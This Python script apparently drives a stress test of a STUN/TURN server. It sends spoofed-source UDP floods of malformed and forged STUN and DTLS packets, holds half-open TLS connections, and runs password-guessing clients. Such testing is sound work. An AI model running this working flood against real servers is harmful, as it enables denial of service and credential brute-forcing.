#!/usr/bin/env python3
"""A mixed flood at a server, from many source addresses and ports.

    flood.py SERVER UDP_PORT TLS_PORT SECONDS PACKETS_PER_SECOND SOURCES PACKETS_OF_EACH HALF_OPEN GUESSERS

Packets whose source is forged (raw sockets): random bytes, broken STUN, forged MESSAGE-INTEGRITY, bare
requests, ChannelData and DTLS handshakes without a cookie. PACKETS_OF_EACH is `one`, of one kind or another, or
`all`, one of each kind. SERVER may be of either family. Beside them, from addresses that are this machine's own by a local route, GUESSERS
sockets that fetch a nonce and try passwords with it, and HALF_OPEN connections at one time that
begin a TLS handshake and say no more, made anew when the server ends them. Needs root, and routes for
kForged and kOwn. The rate is the most there is: a machine that is very late sends less, rather than in bursts.
Says "ready" once its packets are made, begins at a line on its standard input, and prints what it did as JSON at its
end.
"""
import ctypes
import hashlib
import hmac
import json
import multiprocessing
import os
import random
import selectors
import signal
import socket
import struct
import sys
import time

kForged = "61.40.0.0"  # /16
kForged6 = "2a0d:5600::"  # /32, each source in a /48 of its own
kOwn = "62.50.0.0"  # /16: connections from its lower half, guessers from its upper
kCookie = 0x2112A442
kTick = 0.004  # seconds
kLateMax = 0.1  # seconds that are made up for
kOpenedPerSecond = 1000
kGuessesPerSecond = 4  # of each
IP_FREEBIND = 15
PR_SET_PDEATHSIG = 1


def address(base, index):
    return socket.inet_ntoa(struct.pack("!I", struct.unpack("!I", socket.inet_aton(base))[0] + 1 + index))


def forged_source(server, index):
    """As bytes, of the server's family."""
    if ":" not in server:
        return socket.inet_aton(address(kForged, index))
    return socket.inet_pton(socket.AF_INET6, kForged6)[:4] + struct.pack("!H", 1 + index) + bytes(9) + b"\x01"


def attribute(kind, value):
    return struct.pack("!HH", kind, len(value)) + value + bytes(-len(value) % 4)


def message(kind, attributes=b"", length=None, cookie=kCookie):
    size = len(attributes) if length is None else length
    return struct.pack("!HHI", kind, size, cookie) + os.urandom(12) + attributes


def signed(kind, attributes, key):
    """With a MESSAGE-INTEGRITY (RFC 8489 §14.5)."""
    whole = message(kind, attributes, length=len(attributes) + 24)
    return whole + attribute(0x0008, hmac.new(key, whole, hashlib.sha1).digest())


kBinding, kAllocate, kRefresh, kCreatePermission = 0x0001, 0x0003, 0x0004, 0x0008
kUdp = attribute(0x0019, b"\x11\0\0\0")


def login(nonce):
    name = f"{int(time.time()) + 600}:3600.call.{random.getrandbits(40):x}".encode()
    return attribute(0x0006, name) + attribute(0x0014, b"visavis") + attribute(0x0015, nonce)


def broken(chance):
    """STUN that lies about a length, a cookie or what is last in it."""
    good = message(kAllocate, kUdp)
    return chance.choice([
        message(kAllocate, kUdp, length=chance.choice([0, 4, 6, 12, 1000, 65532])),
        message(kAllocate, kUdp, cookie=chance.getrandbits(32)),
        good[: chance.randrange(1, len(good))],
        message(kAllocate, struct.pack("!HH", 0x0006, 60000) + b"abcd"),
        message(kAllocate, attribute(0x0008, bytes(19)) + kUdp),
        message(kAllocate, attribute(0x8028, bytes(4)) + kUdp),
        message(kBinding, attribute(0x8028, os.urandom(4))),
        message(chance.getrandbits(14), b"".join(attribute(chance.getrandbits(16), b"") for _ in range(200))),
        message(0x0101, kUdp), message(0x0016, attribute(0x0013, bytes(40))),
    ])


def forged(chance):
    """What only somebody with a password could say, by somebody without, and with a nonce that was never given."""
    kind = chance.choice([kAllocate, kRefresh, kCreatePermission])
    return signed(kind, kUdp + login(os.urandom(12).hex().encode()), os.urandom(16))


def client_hello():
    """The first message of DTLS 1.2 (RFC 6347 §4.2), with no cookie."""
    body = b"\xfe\xfd" + os.urandom(32) + b"\0" + b"\0" + struct.pack("!HH", 2, 0xC02B) + b"\x01\0"
    size = struct.pack("!I", len(body))[1:]
    handshake = b"\x01" + size + bytes(2) + bytes(3) + size + body
    return b"\x16\xfe\xff" + bytes(8) + struct.pack("!H", len(handshake)) + handshake


def kinds(chance):
    return [
        lambda: os.urandom(chance.choice([1, 4, 20, 100, 500, 1200])),
        lambda: broken(chance),
        lambda: forged(chance),
        lambda: message(kBinding),
        lambda: message(kAllocate, kUdp),
        lambda: struct.pack("!HH", 0x4000 + chance.getrandbits(12), 16) + os.urandom(16),
        client_hello,
    ]


def checksum(data):
    """RFC 1071."""
    data += bytes(len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return total ^ 0xFFFF or 0xFFFF


def packet(source, target, port, data, chance):
    """IP and UDP. Of IPv4 the kernel fills in lengths and the header's checksum, and UDP's may be left out (RFC 768);
    of IPv6 it may not (RFC 8200 §8.1)."""
    size = 8 + len(data)
    udp = struct.pack("!HHHH", chance.randrange(1024, 65536), port, size, 0) + data
    if len(source) == 16:
        target6 = socket.inet_pton(socket.AF_INET6, target)
        right = checksum(source + target6 + struct.pack("!II", size, socket.IPPROTO_UDP) + udp)
        head = struct.pack("!IHBB", 6 << 28, size, socket.IPPROTO_UDP, 64)
        return head + source + target6 + udp[:6] + struct.pack("!H", right) + data
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, 17, 0, source, socket.inet_aton(target)) + udp


class Pace:
    """How many there may be by now at so many a second; what is later than kLateMax is not made up for."""

    def __init__(self, rate):
        self.rate = rate
        self.before = time.monotonic()
        self.owed = 0.0

    def take(self, most):
        now = time.monotonic()
        self.owed = min(self.owed + self.rate * (now - self.before), self.rate * kLateMax)
        self.before = now
        taken = min(int(self.owed), most)
        self.owed -= taken
        return taken


class Forgers:
    def __init__(self, server, port, rate, sources, of_each):
        chance = random.Random(4)
        self.target = (server, 0)
        self.rate = rate
        makers = kinds(chance)
        chosen = (lambda i: [makers[i % len(makers)]]) if of_each == "one" else (lambda _: makers)
        self.packets = [
            packet(forged_source(server, i), server, port, make(), chance) for i in range(sources) for make in chosen(i)
        ]
        family = socket.AF_INET6 if ":" in server else socket.AF_INET
        self.socket = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.next = 0

    def run(self, seconds, counted):
        # It must not go on when the program that began it has been killed.
        ctypes.CDLL(None).prctl(PR_SET_PDEATHSIG, signal.SIGKILL)
        end = time.monotonic() + seconds
        pace = Pace(self.rate)
        while time.monotonic() < end:
            time.sleep(kTick)
            for _ in range(pace.take(len(self.packets))):
                self.socket.sendto(self.packets[self.next], self.target)
                self.next = (self.next + 1) % len(self.packets)
                counted.value += 1


class Guesser:
    """Has a nonce, since it hears its answers, and no password."""

    def __init__(self, flood, index):
        self.flood = flood
        self.nonce = None
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.setblocking(False)
        self.socket.setsockopt(socket.IPPROTO_IP, IP_FREEBIND, 1)
        self.socket.bind((address(kOwn, 0x8000 + index), 0))
        self.socket.connect((flood.server, flood.udp_port))
        self.due = time.monotonic() + random.random()
        flood.selector.register(self.socket, selectors.EVENT_READ, self)

    def guess(self, now):
        if now < self.due:
            return
        self.due = now + 1 / kGuessesPerSecond
        data = message(kAllocate, kUdp) if self.nonce is None else signed(kAllocate, kUdp + login(self.nonce), os.urandom(16))
        try:
            self.socket.send(data)
            self.flood.guesses += self.nonce is not None
        except OSError:
            pass  # a queue is full: one guess less

    def handle(self, _events):
        try:
            data = self.socket.recv(2048)
        except OSError:
            return
        self.flood.answered += 1
        self.flood.guesses_answered += self.nonce is not None
        at = 20
        while at + 4 <= len(data):
            kind, size = struct.unpack_from("!HH", data, at)
            if kind == 0x0015:
                self.nonce = data[at + 4: at + 4 + size]
            at += 4 + size + -size % 4


class HalfOpen:
    """A connection, and a part of a ClientHello."""

    def __init__(self, flood, index):
        self.flood = flood
        self.index = index
        self.socket = None

    def open(self):
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.socket.setblocking(False)
        self.socket.setsockopt(socket.IPPROTO_IP, IP_FREEBIND, 1)
        self.socket.bind((address(kOwn, self.index), 0))
        self.socket.connect_ex((self.flood.server, self.flood.tls_port))
        self.flood.selector.register(self.socket, selectors.EVENT_WRITE, self)

    def handle(self, events):
        if events & selectors.EVENT_WRITE:
            if self.socket.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
                self.close()
                return
            try:
                self.socket.send(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + os.urandom(60))
            except OSError:
                self.close()  # the server has ended it already
                return
            self.flood.opened += 1
            self.flood.selector.modify(self.socket, selectors.EVENT_READ, self)
            return
        self.close()

    def close(self):
        self.flood.selector.unregister(self.socket)
        self.socket.close()
        self.flood.closed.append(self)


class Flood:
    def __init__(self, server, udp_port, tls_port, rate, sources, of_each, half_open, guessers):
        self.server, self.udp_port, self.tls_port = server, udp_port, tls_port
        self.selector = selectors.DefaultSelector()
        self.guesses = self.guesses_answered = self.answered = 0
        self.opened = 0
        self.closed = [HalfOpen(self, i) for i in range(half_open)]
        self.forgers = Forgers(server, udp_port, rate, sources, of_each)
        self.guessers = [Guesser(self, i) for i in range(guessers)]

    def run(self, seconds):
        # A process of its own: thousands of connections take their time.
        sent = multiprocessing.Value("q", 0, lock=False)
        forgers = multiprocessing.Process(target=self.forgers.run, args=(seconds, sent))
        forgers.start()
        end = time.monotonic() + seconds
        opening = Pace(kOpenedPerSecond)
        while (now := time.monotonic()) < end:
            for key, events in self.selector.select(kTick):
                key.data.handle(events)
            for guesser in self.guessers:
                guesser.guess(now)
            for _ in range(opening.take(len(self.closed))):
                self.closed.pop().open()
        forgers.join()
        if forgers.exitcode != 0:
            sys.exit(f"the forging process ended with {forgers.exitcode}")
        print(json.dumps({
            "sent": sent.value, "guesses": self.guesses, "guessesAnswered": self.guesses_answered,
            "answered": self.answered, "opened": self.opened, "packets": len(self.forgers.packets)}), flush=True)


def main():
    server, udp_port, tls_port, seconds, rate, sources, of_each, half_open, guessers = sys.argv[1:]
    flood = Flood(server, int(udp_port), int(tls_port), int(rate), int(sources), of_each, int(half_open), int(guessers))
    print("ready", flush=True)
    sys.stdin.readline()
    flood.run(float(seconds))


if __name__ == "__main__":
    main()
